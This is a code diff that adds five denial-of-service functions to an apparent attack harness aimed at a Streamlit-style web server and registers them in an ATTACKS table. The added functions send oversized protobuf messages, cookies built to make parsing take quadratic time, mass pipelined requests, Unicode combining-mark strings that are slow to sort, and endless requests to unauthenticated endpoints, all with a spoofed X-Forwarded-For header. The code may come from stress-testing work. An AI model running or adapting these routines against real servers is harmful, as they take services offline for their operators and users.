@@ -227,6 +227,71 @@ def idle_connections(url: str) -> None:
     time.sleep(20)
 
 
+def many_parts(url: str) -> None:
+    """Messages below every limit of size with as many values of widgets as fit."""
+    connections = [_connected(url) for _ in range(4)]
+    message = BackMsg()
+    for _ in range(120_000):
+        message.rerun_script.widget_states.widgets.add()
+    data = message.SerializeToString()
+    while True:
+        for connection in connections:
+            connection.send(data)
+        time.sleep(0.1)
+
+
+def escaped_cookies(url: str) -> None:
+    """Cookies whose quotes take quadratic time to read."""
+    parts = urlsplit(url)
+    cookie = 'a="' + '\\"' * 8_000 + '"'
+    request = f"GET /_stcore/health HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: {ATTACKER}\r\n"
+    with socket.create_connection((parts.hostname, parts.port or 80), 10) as connection:
+        while True:
+            connection.sendall(f"{request}Cookie: {cookie}\r\n\r\n".encode())
+            if not connection.recv(65_536):
+                return
+
+
+def pipelined(url: str) -> None:
+    """Forty connections that ask thirteen thousand times and read nothing."""
+    parts = urlsplit(url)
+    held = []
+    with suppress(OSError):
+        for _ in range(40):
+            held.append(socket.create_connection((parts.hostname, parts.port or 80), 10))
+            held[-1].settimeout(1)
+            held[-1].sendall(
+                f"GET /x HTTP/1.1\r\nX-Forwarded-For: {ATTACKER}\r\n\r\n".encode() * 13_000
+            )
+    time.sleep(1)
+
+
+def marks(url: str) -> None:
+    """Texts in a link that take quadratic time to put in order."""
+    with _connected(url) as connection:
+        text = "a" + "\u0301" * 16_000 + "\u0316" * 16_000
+        while True:
+            connection.send(_rerun(query_string=f"description={text}"))
+            time.sleep(0.2)
+
+
+def requests(url: str) -> None:
+    """Fifty connections that ask for what needs no sign-in, over and over."""
+    parts = urlsplit(url)
+    asked = [
+        f"GET {path} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: {ATTACKER}\r\n\r\n".encode()
+        for path in ("/api/v1/app/me", "/api/openapi.json", "/api/ready", "/_stcore/health")
+    ]
+    connections = [
+        socket.create_connection((parts.hostname, parts.port or 80), 10) for _ in range(50)
+    ]
+    for number in range(1_000_000):
+        connection = connections[number % 50]
+        connection.sendall(asked[number % 4])
+        if number >= 50 and not connections[(number + 1) % 50].recv(1_000_000):
+            return
+
+
 ATTACKS: dict[str, tuple[Attack, ...]] = {
     "git info": (git_info,),
     "469 bytes a second": (trickle,),
@@ -236,4 +301,9 @@ ATTACKS: dict[str, tuple[Attack, ...]] = {
     "tiny frames": (tiny_frames,),
     "199 sessions": (sessions,),
     "1,000 idle connections": (idle_connections,),
+    "120,000 widgets in each message": (many_parts,),
+    "cookies with 8,000 escapes": (escaped_cookies,),
+    "13,000 requests before an answer": (pipelined,),
+    "32,000 marks on a letter": (marks,),
+    "50 connections that ask on and on": (requests,),
 }
